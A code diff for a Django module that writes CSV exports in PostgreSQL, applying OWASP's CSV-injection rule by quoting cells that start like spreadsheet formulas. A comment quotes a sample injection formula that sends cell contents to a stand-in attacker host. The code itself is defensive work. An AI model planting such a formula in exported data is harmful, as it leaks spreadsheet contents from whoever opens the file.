@@ -12,10 +12,9 @@ from decimal import Decimal
 from itertools import islice
 
 from django.db import models
-from django.db.models import Case, F, Func, QuerySet, TextField, Value, When
+from django.db.models import Expression, F, Func, QuerySet, TextField, Value
 from django.db.models.constants import LOOKUP_SEP
-from django.db.models.functions import Cast, Coalesce, Concat, Ord
-from django.db.models.lookups import In, Regex
+from django.db.models.functions import Cast
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -82,36 +81,62 @@ def as_text(field: str) -> Cast:
 
 # The formula starts as character codes: PostgreSQL's ascii() of a text's first
 # character is an integer compared without making a one-letter text per cell.
-_FORMULA_CODES = tuple(ord(start) for start in FORMULA_STARTS)
+_FORMULA_CODES = ", ".join(str(ord(start)) for start in FORMULA_STARTS)
 
 
-def safe_text(field: str) -> Case:
+# safe_text and choice_label write their SQL themselves: as Case and When (a filter built
+# for each choice, the column compiled for each branch) they cost an export more Python
+# than PostgreSQL spends on them.
+class _SafeText(Func):
+    output_field = TextField()
+
+    def as_sql(self, compiler, connection, **extra_context):
+        sql, params = compiler.compile(self.source_expressions[0])
+        return (
+            f"CASE WHEN ASCII({sql}) IN ({_FORMULA_CODES}) THEN '''' || ({sql}) ELSE ({sql}) END",
+            [*params, *params, *params],
+        )
+
+
+class _Label(Func):
+    output_field = TextField()
+
+    def __init__(self, field: str, labels: dict[str, str]):
+        super().__init__(F(field))
+        self.labels = labels
+
+    def as_sql(self, compiler, connection, **extra_context):
+        sql, params = compiler.compile(self.source_expressions[0])
+        whens = " ".join("WHEN %s THEN %s" for _ in self.labels)
+        pairs = [text for pair in self.labels.items() for text in pair]
+        return f"CASE ({sql}) {whens} ELSE ({sql}) END", [*params, *pairs, *params]
+
+
+def safe_text(field: str) -> _SafeText:
     """A text column with the formula rule applied by PostgreSQL (a leading apostrophe
     where the text starts like a formula), so a long export checks no cell in Python."""
-    return _safe(
-        Case(
-            When(In(Ord(field), _FORMULA_CODES),
-                 then=Concat(Value("'"), F(field), output_field=TextField())),
-            default=F(field),
-            output_field=TextField(),
-        ),
-        quotes_decided_by=field,
-    )  # fmt: skip
+    return _safe(_SafeText(F(field)), quotes_decided_by=field)
 
 
-def choice_label(field: str, choices) -> Case:
-    """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL."""
+def choice_label(field: str, choices) -> _Label:
+    """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL;
+    a value that is not a choice as it is."""
     labels = {str(value): str(label) for value, label in choices}
+    if not labels:
+        raise ValueError(f"{field} has no choices to label")
     if any(label.startswith(FORMULA_STARTS) for label in labels.values()):
         raise ValueError(f"a label of {field} starts like a formula")
     return _safe(
-        Case(
-            *[When(**{field: value}, then=Value(label)) for value, label in labels.items()],
-            default=F(field),
-            output_field=TextField(),
-        ),
+        _Label(field, labels),
         plain=all(_plain(text) for pair in labels.items() for text in pair),
     )
+
+
+def fixed_text(text: str) -> Value:
+    """The same text in every row (a type, a status, an empty cell), checked here."""
+    if text.startswith(FORMULA_STARTS):
+        raise ValueError(f"{text!r} starts like a formula")
+    return _safe(Value(text, output_field=TextField()), plain=_plain(text))
 
 
 def trusted(expression, *, plain: bool = False):
@@ -119,8 +144,6 @@ def trusted(expression, *, plain: bool = False):
     count written as text, a fixed label). Say why where it is used. ``plain`` when it
     cannot hold a comma, a double quote or a line break either (digits), so a CSV line
     writes it without that test."""
-    if isinstance(expression, Value):
-        plain = plain or _plain(str(expression.value))
     return _safe(expression, plain=plain)
 
 
@@ -138,8 +161,9 @@ _PLAIN_SAFE = (models.IntegerField, models.AutoField)
 
 def sql_rows(queryset: QuerySet) -> SqlRows:
     """Mark a ``values_list`` queryset as safe to write unchecked, after checking that it
-    is: every column must be ``as_text``, ``safe_text``, ``choice_label`` or ``trusted``,
-    or a whole-number field. A text column taken straight from a model is refused."""
+    is: every column must be ``as_text``, ``safe_text``, ``choice_label``, ``fixed_text``
+    or ``trusted``, or a whole-number field. A text column taken straight from a model is
+    refused."""
     query = queryset.query
     for name, expression in query.annotation_select.items():
         if not getattr(expression, _SAFE, False):
@@ -153,73 +177,94 @@ def sql_rows(queryset: QuerySet) -> SqlRows:
     return SqlRows(queryset)
 
 
-class _Joined(Func):
-    """Texts joined end to end, a NULL written as nothing (as the csv module writes None)."""
+class _CsvLine(Expression):
+    """A row's cells as its CSV line, without the line ending, written by PostgreSQL:
+    each cell as text (a NULL as nothing, as the csv module writes None), joined by
+    commas. When the row's texts hold a comma, a double quote or a line break, each
+    cell that does is written in double quotes with its double quotes doubled.
 
-    template = "%(expressions)s"
-    arg_joiner = " || "
+    Whether a row needs quotes is one test of its texts together: a test per cell was
+    most of the query's time, and few rows have a comma or a quote. Each cell is
+    compiled once and its SQL written where the line needs it: as Django expressions,
+    the two forms of the line cost more to resolve and compile than the query to run.
+    """
+
     output_field = TextField()
 
-    def __init__(self, *expressions):
-        super().__init__(*[Coalesce(e, Value(""), output_field=TextField()) for e in expressions])
+    def __init__(self, cells: list, tests: list):
+        super().__init__()
+        self.cells = cells  # resolved expressions
+        self.tests = tests  # for each cell, the resolved text to test, or None
 
+    def get_source_expressions(self):
+        return [*self.cells, *self.tests]
 
-class _CsvLine(_Joined):
-    """Cells joined by commas."""
+    def set_source_expressions(self, exprs):
+        self.cells, self.tests = list(exprs[: len(self.cells)]), list(exprs[len(self.cells) :])
 
-    arg_joiner = " || ',' || "
+    def resolve_expression(self, *args, **kwargs):
+        # Made of the queryset's own columns, resolved already (see _csv_line_rows).
+        return self.copy()
 
+    # Django compares a selected expression with the ORDER BY's by hashing both, which
+    # for an expression hashes every node below it: a line is only ever itself.
+    def __eq__(self, other):
+        return self is other
 
-class _Quoted(Func):
-    """Text in double quotes, its double quotes doubled."""
+    def __hash__(self):
+        return id(self)
 
-    template = """'"' || replace(%(expressions)s, '"', '""') || '"'"""
-    output_field = TextField()
+    def as_sql(self, compiler, connection):
+        plain, plain_params = [], []
+        quoted, quoted_params = [], []
+        texts, texts_params = [], []
+        pattern = f"[{_NEEDS_QUOTES}]"
+        for cell, test in zip(self.cells, self.tests, strict=True):
+            sql, params = compiler.compile(cell)
+            sql = f"({sql})::text"
+            plain.append(f"COALESCE({sql}, '')")
+            plain_params += params
+            if test is None:
+                quoted.append(plain[-1])
+                quoted_params += params
+                continue
+            test_sql, test_params = (sql, params) if test is cell else compiler.compile(test)
+            test_sql = f"({test_sql})::text"
+            texts.append(f"COALESCE({test_sql}, '')")
+            texts_params += test_params
+            quoted.append(
+                f"COALESCE(CASE WHEN {test_sql} ~ %s"
+                f""" THEN '"' || replace({sql}, '"', '""') || '"' ELSE {sql} END, '')"""
+            )
+            quoted_params += [*test_params, pattern, *params, *params]
+        comma = " || ',' || "
+        if not texts:
+            return comma.join(plain), plain_params
+        return (
+            f"CASE WHEN ({' || '.join(texts)}) ~ %s"
+            f" THEN {comma.join(quoted)} ELSE {comma.join(plain)} END",
+            [*texts_params, pattern, *quoted_params, *plain_params],
+        )
 
 
 def _csv_line_rows(queryset: QuerySet) -> tuple[QuerySet, int]:
-    """The ``sql_rows`` queryset as one text per row, its CSV line without the line
-    ending, and its number of columns. PostgreSQL joining the cells costs a few
-    milliseconds a year; the csv module writing them, and psycopg2 making a string
-    of each, cost ten times that.
-
-    Whether a row has a cell to quote is one test of the row's texts together: a test
-    per cell was most of the query's time, and few rows have a comma or a quote."""
+    """The ``sql_rows`` queryset as one text per row, its CSV line (``_CsvLine``), and
+    its number of columns. PostgreSQL joining the cells costs a few milliseconds a
+    year; the csv module writing them, and psycopg2 making a string of each, cost ten
+    times that."""
     query = queryset.query
-    cells, tested, quoted = [], [], []
+    cells, tests = [], []
     for name in queryset._fields:  # the columns in values_list's order
-        if name not in query.annotations:  # a whole number (sql_rows checked)
-            cell = Cast(F(name), output_field=TextField())
-            cells.append(cell)
-            quoted.append(cell)
-            continue
-        cell = query.annotations[name]
+        cell = query.resolve_ref(name)  # an annotation, or a whole number's column
         cells.append(cell)
-        if getattr(cell, _PLAIN, False):
-            quoted.append(cell)
-            continue
-        decided_by = getattr(cell, _QUOTES_DECIDED_BY, None)
-        test = cell if decided_by is None else F(decided_by)
-        tested.append(test)
-        quoted.append(
-            Case(
-                When(_needs_quotes(test), then=_Quoted(cell)),
-                default=cell,
-                output_field=TextField(),
-            )
-        )
-    line = _CsvLine(*cells)
-    if tested:
-        line = Case(
-            When(_needs_quotes(_Joined(*tested)), then=_CsvLine(*quoted)),
-            default=line,
-            output_field=TextField(),
-        )
+        if name not in query.annotations or getattr(cell, _PLAIN, False):
+            tests.append(None)
+        elif decided_by := getattr(cell, _QUOTES_DECIDED_BY, None):
+            tests.append(query.resolve_ref(decided_by))
+        else:
+            tests.append(cell)
+    line = _CsvLine(cells, tests)
     return queryset.annotate(csv_line=line).values_list("csv_line", flat=True), len(cells)
-
-
-def _needs_quotes(text) -> Regex:
-    return Regex(text, Value(f"[{_NEEDS_QUOTES}]"))
 
 
 class _Echo:
